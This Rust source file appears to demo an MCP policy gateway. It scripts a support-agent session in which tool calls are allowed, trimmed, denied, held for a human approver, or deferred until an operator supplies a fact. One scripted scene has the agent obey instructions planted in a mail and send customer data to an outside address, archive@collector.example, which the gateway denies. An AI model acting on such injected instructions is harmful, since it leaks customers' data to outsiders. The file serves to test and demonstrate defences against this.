//! One session of a support agent, in which each of the five decisions is taken for a reason one recognises.

use std::collections::HashMap;
use std::time::Duration;

use http::{HeaderName, HeaderValue};
use reqwest::Client;
use rmcp::ServiceExt as _;
use rmcp::model::{CallToolRequestParams, CallToolResult, ClientConfig};
use rmcp::service::{RoleClient, RunningService};
use rmcp::transport::StreamableHttpClientTransport;
use rmcp::transport::streamable_http_client::StreamableHttpClientTransportConfig;
use serde::Serialize;
use serde_json::{Value, json};

use crate::error::CommandError;
use crate::output::{Output, Page, View};

/// What the user types.
const REQUEST: &str = "Go through the inbox, look up the customers it mentions, close the account of customer C-0007 \
                       and rotate the billing-api credential.";
/// How long somebody looks for what waits for them.
const PATIENCE: Duration = Duration::from_secs(20);

/// Everyone's token, and where the gateway is.
pub(crate) struct Cast {
    pub(crate) url: String,
    pub(crate) agent: String,
    pub(crate) host: String,
    pub(crate) approver: String,
    pub(crate) operator: String,
}

/// What one call came to.
pub(crate) struct Scene {
    pub(crate) decision: String,
    pub(crate) expected: &'static str,
}

/// Plays the story, printing each scene as it happens. Returns the session's id and what was decided.
pub(crate) async fn play(cast: &Cast, output: &Output) -> Result<(String, Vec<Scene>), CommandError> {
    let http = Client::builder()
        .no_proxy()
        .build()
        .map_err(|error| CommandError::bug("no HTTP client").cause(&error))?;
    let stage = Stage { cast, http, output };
    let (session, token) = stage.open().await?;
    let agent = stage.agent(&token).await?;
    let mut scenes = Vec::new();

    stage.say("agent", "reads the mail that mentions customers");
    scenes.push(stage.call(&agent, "mail__read_mail", json!({ "id": "mail-4" }), "ALLOW").await?);

    stage.say("agent", "asks for 500 customers at once");
    let query = json!({ "filter": "", "limit": 500 });
    scenes.push(stage.call(&agent, "crm__query_customers", query, "MODIFY").await?);

    stage.say("agent", "does what the mail told it: sends what it has read to an address outside");
    let leak = json!({ "to": "archive@collector.example", "subject": "customers", "body": "as you asked" });
    scenes.push(stage.call(&agent, "mail__send_mail", leak, "DENY").await?);

    stage.say("agent", "sends a summary to a colleague instead");
    let inside = json!({ "to": "carol@example.com", "subject": "Inbox", "body": "Two customers wrote." });
    scenes.push(stage.call(&agent, "mail__send_mail", inside, "ALLOW").await?);

    stage.say("agent", "deletes customer C-0007, and is held until a person has answered");
    let delete = json!({ "id": "C-0007" });
    let (deleted, held) =
        tokio::join!(stage.call(&agent, "crm__delete_customer", delete, "ALLOW"), stage.approve());
    scenes.extend([held?, deleted?]);

    stage.say("agent", "rotates a credential, and is held until the maintenance window is known");
    let rotate = json!({ "name": "billing-api" });
    let (rotated, held) =
        tokio::join!(stage.call(&agent, "crm__rotate_credential", rotate, "ALLOW"), stage.tell(&session));
    scenes.extend([held?, rotated?]);

    let _ = agent.cancel().await;
    Ok((session, scenes))
}

type Agent = RunningService<RoleClient, ClientConfig>;

struct Stage<'a> {
    cast: &'a Cast,
    http: Client,
    output: &'a Output,
}

impl Stage<'_> {
    fn say(&self, who: &'static str, what: &str) {
        let said = Said { at: stamp(), who, what: what.to_owned() };
        if let Err(error) = self.output.show(&said) {
            tracing::debug!(%error, "nobody reads the story");
        }
    }

    /// The host opens a session and says what the user asked.
    async fn open(&self) -> Result<(String, String), CommandError> {
        let body = json!({
            "human": "alice@example.com", "agent": "desk-agent-1", "original_request": REQUEST,
        });
        let answer = self.post(&self.cast.host, "/v1/sessions", &body).await?;
        let text = |name: &str| answer.get(name).and_then(Value::as_str).map(str::to_owned);
        match (text("id"), text("token")) {
            (Some(id), Some(token)) => {
                self.say(
                    "host",
                    &format!("opens session {id} with the user's words: \u{201c}{REQUEST}\u{201d}"),
                );
                Ok((id, token))
            }
            _ => Err(CommandError::bug("the session was not opened")),
        }
    }

    /// The agent: a client of the official MCP library, which knows nothing of us but the URL and two headers.
    async fn agent(&self, session: &str) -> Result<Agent, CommandError> {
        let bug = |error: &dyn std::error::Error| CommandError::bug("the agent cannot connect").cause(error);
        let token = HeaderValue::from_str(session).map_err(|error| bug(&error))?;
        let headers = HashMap::from([(HeaderName::from_static("countersign-session"), token)]);
        let config = StreamableHttpClientTransportConfig::with_uri(format!("{}/mcp", self.cast.url))
            .auth_header(self.cast.agent.clone())
            .custom_headers(headers);
        let transport = StreamableHttpClientTransport::with_client(self.http.clone(), config);
        let agent = ClientConfig::default().serve(transport).await.map_err(|error| bug(&error))?;
        let tools = agent.list_all_tools().await.map_err(|error| bug(&error))?;
        self.say("agent", &format!("connects over MCP and sees {} tools", tools.len()));
        Ok(agent)
    }

    async fn call(
        &self,
        agent: &Agent,
        tool: &'static str,
        arguments: Value,
        expected: &'static str,
    ) -> Result<Scene, CommandError> {
        let arguments = arguments.as_object().cloned().unwrap_or_default();
        let request = CallToolRequestParams::new(tool).with_arguments(arguments);
        let result = agent
            .call_tool(request)
            .await
            .map_err(|error| CommandError::bug(format!("{tool} was not answered")).cause(&error))?;
        let decision = decision(&result);
        self.decided(&decision, tool, &receipt(&result), &said(&result))?;
        Ok(Scene { decision, expected })
    }

    /// The second person: looks at the inbox, reads, approves.
    async fn approve(&self) -> Result<Scene, CommandError> {
        let waiting = self.wait_for("/v1/approvals", "approvals", &self.cast.approver).await?;
        let text = |pointer: &str| waiting.pointer(pointer).and_then(Value::as_str).unwrap_or("?").to_owned();
        let asked = format!("held: {}", text("/reason"));
        self.decided("STEP_UP", &text("/action/tool"), &text("/id"), &asked)?;
        self.say(
            "bob",
            &format!("reads who asks, for whom and why: \u{201c}{}\u{201d}", text("/original_request")),
        );
        let body = json!({ "decision": "approve", "reason": "the customer asked for it in writing" });
        self.post(&self.cast.approver, &format!("/v1/approvals/{}", text("/id")), &body).await?;
        self.say("bob", "approves this one call, with these arguments, once");
        Ok(Scene { decision: "STEP_UP".into(), expected: "STEP_UP" })
    }

    /// The operator: says what the policy waits for.
    async fn tell(&self, session: &str) -> Result<Scene, CommandError> {
        let waiting = self.wait_for("/v1/deferrals", "deferrals", &self.cast.operator).await?;
        let text = |pointer: &str| waiting.pointer(pointer).and_then(Value::as_str).unwrap_or("?").to_owned();
        let missing = format!("held: {} is not known", text("/missing/0/name"));
        self.decided("DEFER", &text("/action/tool"), &text("/id"), &missing)?;
        let body = json!({ "facts": { "maintenance_window": "open" }, "valid_for": 600 });
        self.post(&self.cast.operator, &format!("/v1/sessions/{session}/context"), &body).await?;
        self.say("olga", "says that the maintenance window is open for the next ten minutes");
        Ok(Scene { decision: "DEFER".into(), expected: "DEFER" })
    }

    fn decided(&self, decision: &str, tool: &str, reference: &str, answer: &str) -> Result<(), CommandError> {
        self.output.show(&Decided {
            at: stamp(),
            decision: decision.to_owned(),
            tool: tool.to_owned(),
            reference: reference.to_owned(),
            answer: answer.to_owned(),
        })
    }

    async fn wait_for(&self, path: &str, list: &str, token: &str) -> Result<Value, CommandError> {
        let until = tokio::time::Instant::now() + PATIENCE;
        while tokio::time::Instant::now() < until {
            let answer = self.get(token, path).await?;
            if let Some(first) = answer.get(list).and_then(Value::as_array).and_then(|all| all.first()) {
                return Ok(first.clone());
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        Err(CommandError::bug(format!("nothing came up under {path}")))
    }

    async fn get(&self, token: &str, path: &str) -> Result<Value, CommandError> {
        let request = self.http.get(format!("{}{path}", self.cast.url)).bearer_auth(token);
        answer(request, path).await
    }

    async fn post(&self, token: &str, path: &str, body: &Value) -> Result<Value, CommandError> {
        let request = self.http.post(format!("{}{path}", self.cast.url)).bearer_auth(token).json(body);
        answer(request, path).await
    }
}

async fn answer(request: reqwest::RequestBuilder, path: &str) -> Result<Value, CommandError> {
    let failed =
        |error: &dyn std::error::Error| CommandError::away(format!("{path} was not answered")).cause(error);
    let response = request.send().await.map_err(|error| failed(&error))?;
    let good = response.status().is_success();
    let body: Value = response.json().await.map_err(|error| failed(&error))?;
    if good { Ok(body) } else { Err(CommandError::bug(format!("{path} was refused: {body}"))) }
}

/// One line of the timeline.
#[derive(Serialize)]
struct Said {
    at: String,
    who: &'static str,
    what: String,
}

impl View for Said {
    fn show(&self, page: &mut Page) {
        page.line(&format!("{}  {:<6} {}", self.at, self.who, self.what));
    }
}

/// What came of one call.
#[derive(Serialize)]
struct Decided {
    at: String,
    decision: String,
    tool: String,
    /// The ruling's receipt, or the action that waits.
    reference: String,
    answer: String,
}

impl View for Decided {
    fn show(&self, page: &mut Page) {
        let line = format!("{}  {:>8} {} \u{2192} {}", self.at, self.decision, self.tool, self.answer);
        match self.decision.as_str() {
            "DENY" => page.bad(&line),
            "ALLOW" => page.good(&line),
            _ => page.warning(&line),
        }
        page.faint(&format!("              {}", self.reference));
    }
}

fn stamp() -> String {
    jiff::Zoned::now().strftime("%H:%M:%S%.3f").to_string()
}

/// The id of the ruling's receipt.
fn receipt(result: &CallToolResult) -> String {
    let value = serde_json::to_value(result).unwrap_or_default();
    value.pointer("/_meta/countersign/receipt/id").and_then(Value::as_str).unwrap_or("none").to_owned()
}

/// What the gateway says it decided, in the result's `_meta`.
fn decision(result: &CallToolResult) -> String {
    let value = serde_json::to_value(result).unwrap_or_default();
    let word = value.pointer("/_meta/countersign/decision").and_then(Value::as_str);
    word.unwrap_or("?").to_owned()
}

/// The first lines of what the tool answered.
fn said(result: &CallToolResult) -> String {
    let value = serde_json::to_value(result).unwrap_or_default();
    let text = value.pointer("/content/0/text").and_then(Value::as_str).unwrap_or_default();
    let line: String = text.split_whitespace().collect::<Vec<_>>().join(" ");
    if line.chars().count() > 150 {
        format!("{}\u{2026}", line.chars().take(150).collect::<String>())
    } else {
        line
    }
}
